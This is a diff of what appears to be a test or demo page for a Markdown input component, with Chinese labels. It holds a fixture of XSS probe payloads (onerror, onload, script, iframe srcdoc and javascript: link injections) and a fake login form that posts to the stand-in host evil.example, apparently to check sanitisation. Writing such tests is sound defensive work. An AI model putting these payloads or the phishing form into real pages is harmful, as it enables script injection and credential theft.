@@ -107,7 +107,9 @@ const attack = `# 归档说明
 <img src=x onerror="window.attacked='img'"><script>window.attacked='script'</script>
 <svg onload="window.attacked='svg'"></svg><iframe srcdoc="<script>parent.attacked='frame'</script>"></iframe>
 <form action="https://evil.example"><input name="p"><button>登录</button></form>
+
 [点我](javascript:window.attacked='link') [正常](https://example.com/a)
+
 <p style="position:fixed;inset:0" onclick="window.attacked='click'">文字</p>
 
 - [x] 已移交
@@ -124,7 +126,9 @@ function MarkdownPart() {
     <section aria-label="Markdown">
       <h2>Markdown</h2>
       <MarkdownInput aria-label="说明" height={240} value={text} onChange={setText} />
-      <pre aria-label="说明的值">{text}</pre>
+      <output aria-label="说明的值" style={{ whiteSpace: 'pre-wrap' }}>
+        {text}
+      </output>
       <h2>Markdown 只读</h2>
       <MarkdownInput aria-label="只读说明" readOnly value={text} onChange={() => undefined} />
     </section>
